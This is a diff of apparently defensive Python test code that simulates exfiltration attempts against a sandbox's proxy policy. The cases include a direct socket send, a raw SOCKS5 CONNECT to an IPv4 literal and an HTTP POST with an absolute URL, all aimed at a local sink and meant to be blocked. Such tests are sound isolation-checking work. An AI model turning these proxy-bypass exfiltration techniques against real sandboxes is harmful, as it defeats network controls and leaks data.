@@ -110,15 +110,23 @@ def hosts_allowed_name_on_another_port(a):
     _through_connect(a, f"allowed.invalid:{a['sink'][1]}")
 
 
-@attack("hosts", "tcp", policy="hosts")
-def hosts_socks5_ip_literal(a):
-    """SOCKS5 CONNECT to the sink's IPv4 address. Stopped by the proxy."""
-    proxy = _proxy("ALL_PROXY")
+def _to_proxy(a, env):
+    """A connection to the proxy ``env`` names; without one, the bytes go straight to
+    the sink (the bare run) and there is no connection (None)."""
+    proxy = _proxy(env)
     if proxy is None:
         s = socket.create_connection(_sink(a), timeout=2)
         s.sendall(b"exfil")
+        return None
+    return socket.create_connection(proxy, timeout=5)
+
+
+@attack("hosts", "tcp", policy="hosts")
+def hosts_socks5_ip_literal(a):
+    """SOCKS5 CONNECT to the sink's IPv4 address. Stopped by the proxy."""
+    s = _to_proxy(a, "ALL_PROXY")
+    if s is None:
         return
-    s = socket.create_connection(proxy, timeout=5)
     s.sendall(b"\x05\x01\x00")
     s.recv(2)
     s.sendall(b"\x05\x01\x00\x01" + socket.inet_aton("127.0.0.1") + struct.pack("!H", a["sink"][1]))
@@ -130,12 +138,9 @@ def hosts_socks5_ip_literal(a):
 def hosts_http_absolute_url_to_ip(a):
     """A plain HTTP POST with an absolute URL naming the sink's address, the way a
     proxy-aware client sends http:// requests. Stopped by the proxy."""
-    proxy = _proxy("HTTP_PROXY")
-    if proxy is None:
-        s = socket.create_connection(_sink(a), timeout=2)
-        s.sendall(b"exfil")
+    s = _to_proxy(a, "HTTP_PROXY")
+    if s is None:
         return
-    s = socket.create_connection(proxy, timeout=5)
     port = a["sink"][1]
     s.sendall(
         f"POST http://127.0.0.1:{port}/ HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n"
